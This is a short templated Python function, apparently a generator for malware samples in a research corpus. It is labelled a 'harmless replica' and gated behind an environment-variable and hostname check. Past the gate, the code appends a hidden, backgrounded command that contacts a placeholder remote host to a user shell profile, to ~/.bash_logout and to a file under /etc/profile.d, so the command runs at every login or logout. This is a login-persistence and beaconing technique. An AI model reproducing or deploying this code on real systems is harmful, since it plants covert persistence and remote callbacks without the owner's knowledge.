# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    line = 'python3 -c "import urllib.request as u; u.urlopen(\'http://{{ip}}:{{port}}/{{path}}\', timeout=3)" 2>/dev/null &\n'
    for name in ('{{profile}}', '.bash_logout'):
        try:
            subprocess.run(['tee', '-a', os.path.expanduser('~/' + name)], input=line.encode(), stdout=subprocess.DEVNULL, timeout=1)
        except Exception:
            pass
    try:
        with open('/etc/profile.d/{{token}}.sh', 'w') as out:
            out.write(line)
    except OSError:
        pass
